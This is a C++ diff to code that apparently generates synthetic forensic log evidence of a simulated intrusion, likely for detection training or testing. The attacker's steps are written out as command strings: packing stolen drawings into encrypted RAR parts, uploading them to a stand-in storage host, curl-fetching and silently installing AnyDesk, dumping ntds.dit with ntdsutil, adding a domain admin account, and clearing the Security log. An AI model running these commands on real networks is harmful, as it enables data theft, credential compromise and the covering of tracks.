@@ -49,6 +49,14 @@ Process tool(Machine& machine, Time time, const Account& who, std::string_view n
                        fmt::format("{} {}", name, arguments), parent);
 }
 
+// What an intruder has started through `service`: a command interpreter for each command.
+Process command(Machine& machine, Time time, const Process& service, std::string_view image,
+                std::string_view line) {
+  const Process shell =
+      machine.start(time, system_account(), kShell, fmt::format("cmd.exe /c {}", line), service);
+  return machine.start({time.ticks + 412'345}, system_account(), image, line, shell);
+}
+
 void foothold(Machine& machine, const Account& victim, const Day& day) {
   Time time = japan_time(day, 10, 42, 11);
   const auto later = [&](std::int64_t seconds) {
@@ -129,8 +137,8 @@ void foothold(Machine& machine, const Account& victim, const Day& day) {
                     "C:\\Windows\\System32\\rundll32.exe");
 }
 
-// From the first workstation to `target` through its admin share and a service; returns the shell
-// that the service gives.
+// From the first workstation to `target` through its admin share and a service; returns the
+// service's process, which runs commands there.
 Process move_on(Machine& from, Machine& target, const Account& victim, const Account& stolen,
                 std::string_view service, Time time) {
   const auto later = [&](std::int64_t seconds) {
@@ -164,29 +172,28 @@ Process move_on(Machine& from, Machine& target, const Account& victim, const Acc
   const Process started =
       target.start(later(1), system_account(), fmt::format("C:\\Windows\\{}", file),
                    fmt::format("C:\\Windows\\{}", file), services);
-  return target.start(later(2), system_account(), kShell, "cmd.exe /c whoami", started);
+  command(target, later(2), started, std::string(kSystem32) + "whoami.exe", "whoami");
+  return started;
 }
 
-void take_drawings(Machine& server, const Process& shell, const Day& day) {
+void take_drawings(Machine& server, const Process& service, const Day& day) {
   Time time = japan_time(day, 22, 15, 40);
   const auto later = [&](std::int64_t seconds) {
     time.ticks += seconds * Time::kTicksPerSecond;
     return time;
   };
-  const Process packer = server.start(
-      time, system_account(), "C:\\ProgramData\\rar.exe",
+  const Process packer = command(
+      server, time, service, "C:\\ProgramData\\rar.exe",
       "C:\\ProgramData\\rar.exe a -r -v200m -hpT6v2 C:\\ProgramData\\d.rar D:\\Drawings\\*.kdw "
-      "D:\\Drawings\\*.dwg",
-      shell);
+      "D:\\Drawings\\*.dwg");
   for (int part = 1; part <= 6; ++part) {
     sysmon_file_create(server.add(Log::kSysmon), server.at(later(75)), packer,
                        fmt::format("C:\\ProgramData\\d.part{}.rar", part));
   }
-  const Process upload = server.start(
-      later(240), system_account(), "C:\\ProgramData\\svchosts.exe",
-      "C:\\ProgramData\\svchosts.exe copy C:\\ProgramData\\ box:in --include d.part*.rar "
-      "--transfers 4 --no-check-certificate --config C:\\ProgramData\\s.conf",
-      shell);
+  const Process upload =
+      command(server, later(240), service, "C:\\ProgramData\\svchosts.exe",
+              "C:\\ProgramData\\svchosts.exe copy C:\\ProgramData\\ box:in --include d.part*.rar "
+              "--transfers 4 --no-check-certificate --config C:\\ProgramData\\s.conf");
   sysmon_dns(server.add(Log::kSysmon), server.at(later(1)), upload, "box.storage-hill.example",
              "::ffff:198.51.100.77;");
   for (std::uint16_t part = 0; part < 4; ++part) {
@@ -196,41 +203,51 @@ void take_drawings(Machine& server, const Process& shell, const Day& day) {
   }
 }
 
-void second_desk(Machine& machine, const Process& shell, const Day& day) {
+void second_desk(Machine& machine, const Process& service, const Day& day) {
   Time time = japan_time(day, 1, 20);
   const std::string path = "C:\\ProgramData\\AnyDesk\\AnyDesk.exe";
-  const Process fetch = tool(machine, time, system_account(), "curl.exe",
-                             "-s -o C:\\ProgramData\\a.exe https://cdn-docs.example/a.exe", shell);
+  const Process fetch =
+      command(machine, time, service, std::string(kSystem32) + "curl.exe",
+              "curl.exe -s -o C:\\ProgramData\\a.exe https://cdn-docs.example/a.exe");
   time.ticks += 5 * Time::kTicksPerSecond;
   sysmon_file_create(machine.add(Log::kSysmon), machine.at(time), fetch, "C:\\ProgramData\\a.exe");
-  machine.start(
-      time, system_account(), "C:\\ProgramData\\a.exe",
-      "C:\\ProgramData\\a.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent", shell);
+  command(machine, time, service, "C:\\ProgramData\\a.exe",
+          "C:\\ProgramData\\a.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent");
   time.ticks += 6 * Time::kTicksPerSecond;
   system_service_installed(machine.add(Log::kSystem), machine.at(time), "AnyDesk Service",
                            "\"" + path + "\" --service", "LocalSystem");
-  machine.start(time, system_account(), path, "\"" + path + "\" --service", shell);
+  const Process services =
+      machine.standing("C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
+                       system_account());
+  machine.start(time, system_account(), path, "\"" + path + "\" --service", services);
 }
 
-void take_directory(Network& network, const Process& shell, const Day& day) {
+void take_directory(Network& network, const Process& service, const Day& day) {
   Machine& machine = network.controller;
   Time time = japan_time(day, 2, 5);
-  const Process dump = tool(machine, time, system_account(), "ntdsutil.exe",
-                            "\"ac i ntds\" ifm \"create full C:\\ProgramData\\n\" q q", shell);
+  const Process dump =
+      command(machine, time, service, std::string(kSystem32) + "ntdsutil.exe",
+              "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\n\" q q");
   time.ticks += 40 * Time::kTicksPerSecond;
   sysmon_file_create(machine.add(Log::kSysmon), machine.at(time), dump,
                      "C:\\ProgramData\\n\\Active Directory\\ntds.dit");
   const Account made{parse_sid("S-1-5-21-2083415590-1148073922-3310456671-1733"), "svc.print2",
                      "HAGANE", 0x9d1122};
   time.ticks += 60 * Time::kTicksPerSecond;
-  tool(machine, time, system_account(), "net.exe", "user svc.print2 ******** /add /domain", shell);
+  command(machine, time, service, std::string(kSystem32) + "net.exe",
+          "net.exe user svc.print2 ******** /add /domain");
   security_user_created(machine.add(Log::kSecurity), machine.at(time), system_account(), made);
   time.ticks += 4 * Time::kTicksPerSecond;
   security_group_member(machine.add(Log::kSecurity), machine.at(time), system_account(), made,
                         "Administrators");
 }
 
-void cover_tracks(Machine& machine, const Account& who, const Process& shell, const Day& day) {
+// At the desk that the remote-control tool gives, in a console of the stolen account's.
+void cover_tracks(Machine& machine, const Account& who, const Day& day) {
+  const Process desk =
+      machine.standing("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", who);
+  const Process shell =
+      machine.start(japan_time(day, 2, 40, 31), who, kShell, fmt::format("\"{}\"", kShell), desk);
   const Time time = japan_time(day, 2, 41, 7);
   tool(machine, time, who, "wevtutil.exe", "cl Security", shell);
   machine.clear(Log::kSecurity, {time.ticks + 1});
@@ -260,7 +277,7 @@ void add_intrusion(Network& network, const Day& first, const Day& second) {
   const Process on_controller =
       move_on(entry, network.controller, victim, stolen, "dnssvc2", japan_time(second, 1, 58));
   take_directory(network, on_controller, second);
-  cover_tracks(second_machine, stolen, on_second, second);
+  cover_tracks(second_machine, stolen, second);
 }
 
 }  // namespace noroshi::evidence
